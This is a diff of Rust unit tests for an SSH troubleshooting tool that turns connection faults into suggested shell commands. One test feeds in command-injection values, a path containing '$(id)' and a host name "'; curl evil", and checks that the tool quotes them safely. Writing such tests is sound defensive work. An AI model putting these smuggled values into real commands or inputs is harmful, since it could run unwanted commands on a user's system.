+    fn each_program_gets_the_node_in_its_own_syntax() {
+        let known = known("ada@gpu11:2222", Some("ada"), Some(2222), Some("ada"));
+        let x = || "x".to_owned();
+        for (fault, expected) in [
+            (SshFault::JobRequired { message: x() }, "salloc -w gpu11\n"),
+            (SshFault::SessionLost { why: x() }, "ssh -v -p 2222 ada@gpu11 true"),
+            (SshFault::PasswordOnly { user: x() }, "gtop login ada@gpu11:2222\n"),
+            (SshFault::PasswordOnly { user: x() }, "ssh-copy-id -p 2222 ada@gpu11"),
+            (
+                SshFault::ChannelRefused { why: x() },
+                "as root on gpu11: add at the top of /etc/ssh/sshd_config, outside any Match block, then run systemctl reload sshd || systemctl reload ssh:\n",
+            ),
+            (
+                SshFault::ConnectionRefused { port: 22 },
+                "as root on gpu11: systemctl start sshd || systemctl start ssh\n",
+            ),
+            (SshFault::NeedsSshProgram { options: x() }, "gtop --transport ssh ada@gpu11:2222"),
+            (
+                SshFault::GatewayCannotReach { gateway: "eve@bastion:2200".to_owned(), why: x() },
+                "ssh -p 2200 eve@bastion nc -zv gpu11 22",
+            ),
+            (
+                SshFault::GatewayForwardingRefused {
+                    gateway: "ssh://eve@[fe80::1]:2200".to_owned(),
+                    why: x(),
+                },
+                "as root on fe80::1: ",
+            ),
+            (
+                SshFault::HostKeyUnknown { host: x(), algorithm: x(), fingerprint: x() }
+                    .at_gateway("eve@bastion:2200"),
+                "gtop trust eve@bastion:2200",
+            ),
+        ] {
+            let text = text(&known, &fault);
+            assert!(text.contains(expected), "{expected} in {text}");
+        }
+        for (kind, expected) in [
+            (FaultKind::HostKeyUnknown, "gtop trust ada@gpu11:2222"),
+            (FaultKind::BadReply, "ssh -p 2222 ada@gpu11 true"),
+        ] {
+            let text = of_fault(&Fault::new(kind, ""), &known).text();
+            assert!(text.ends_with(expected), "{expected} in {text}");
+        }
+    }
+
+    #[test]
+    fn names_with_shell_metacharacters_are_quoted() {
+        let file = Path::new("/k/my $(id)");
+        let open = SshFault::KeyUnusable {
+            file: file.into(),
+            problem: KeyFileProblem::Unprotected,
+            offers: Vec::new(),
+        };
+        assert_eq!(text(&plain(), &open), "chmod 600 '/k/my $(id)'");
+        let locked = text(&plain(), &SshFault::KeyEncrypted { file: file.into() });
+        assert!(locked.ends_with("ssh-add '/k/my $(id)'"), "{locked}");
+        let changed = SshFault::HostKeyChanged(Box::new(HostKeyChange {
+            host: "'; curl evil".to_owned(),
+            at: Origin { file: file.into(), line: 1 },
+            known: String::new(),
+            algorithm: String::new(),
+            fingerprint: String::new(),
+        }));
+        let changed = text(&plain(), &changed);
+        let expected = r"ssh-keygen -f '/k/my $(id)' -R ''\''; curl evil' && gtop";
+        assert!(changed.contains(expected), "{changed}");
+        let origin = Origin { file: Path::new("/c").into(), line: 1 };
+        let mut known = plain();
+        known.set_option("IdentityFile", &["~/.ssh/my key".to_owned()], Some(&origin));
+        let install = text(&known, &SshFault::PasswordOnly { user: String::new() });
+        assert!(install.ends_with("ssh-copy-id -i ~/'.ssh/my key' gpu11"), "{install}");
+    }
+
+    #[test]
+    fn a_server_with_old_algorithms_gets_the_line_that_allows_the_best_of_them() {
+        let theirs = |names: &str| names.split(',').map(str::to_owned).collect();
+        let fault = |kind, names: &str| SshFault::NoCommonAlgorithm {
+            kind,
+            ours: Vec::new(),
+            theirs: theirs(names),
+        };
+        for (kind, names, line) in [
+            (
+                "key exchange",
+                "diffie-hellman-group1-sha1,diffie-hellman-group14-sha1",
+                "KexAlgorithms +diffie-hellman-group14-sha1",
+            ),
+            ("host key", "ssh-rsa,ssh-dss", "HostKeyAlgorithms +ssh-rsa"),
+            ("cipher", "3des-cbc,aes128-cbc", "Ciphers +aes128-cbc"),
+            ("MAC", "hmac-md5", "MACs +hmac-md5"),
+        ] {
+            let text = text(&plain(), &fault(kind, names));
+            assert!(text.contains(&format!("    Host gpu11\n      {line}\n    Host *")), "{text}");
+        }
+        let unheard = text(&plain(), &fault("cipher", HOSTILE));
+        assert!(!unheard.contains("curl") && unheard.contains("Ciphers"), "{unheard}");
+    }
+
+    #[test]
+    fn only_a_command_follows_a_colon() {
+        let closed = SshFault::NoBanner { port: 22, why: String::new(), is_closed: false };
+        let after = std::time::Duration::from_secs(1);
+        let silent = SshFault::TimedOut { phase: ConnectPhase::BannerExchange, after };
+        for fault in [closed, silent] {
+            let text = text(&plain(), &fault);
+            assert!(!text.contains(": ") && text.contains("set Port for gpu11"), "{text}");
+        }
+    }
+
+    #[test]
+    fn a_password_cannot_be_replaced_by_a_key_where_none_is_taken() {
+        for (offers, command) in [
+            (&["publickey", "password"][..], "ssh-copy-id"),
+            (&["password"], "gtop login gpu11"),
+            (&["hostbased"], "EnableSSHKeysign"),
+            (&["gssapi-with-mic"], "kinit"),
+        ] {
+            let offers = offers.iter().map(|method| (*method).to_owned()).collect();
+            let fault = SshFault::AuthenticationRefused {
+                user: "ada".to_owned(),
+                offers,
+                tried: vec!["id".to_owned()],
+            };
+            let first = plain().of_ssh(&fault).first();
+            assert!(first.contains(command), "{command} in {first}");
+        }
+    }
+
+    #[test]
+    fn each_kind_of_fault_has_advice() {
+        for kind in FaultKind::ALL {
+            for advice in [
+                of_fault(&Fault::new(kind, ""), &plain()),
+                of_alike(&Fault::new(kind, ""), "gpu[01-02]"),
+            ] {
+                let first = advice.first();
+                assert!(first.contains(' ') && !first.ends_with('.'), "{kind:?}: {first}");
+            }
+        }
+        let unknown = Fault::new(FaultKind::HostKeyUnknown, "");
+        let several = of_alike(&unknown, "gpu[01-02]").first();
+        assert_eq!(several, "check the fingerprint and run: gtop trust 'gpu[01-02]'");
+    }
+}
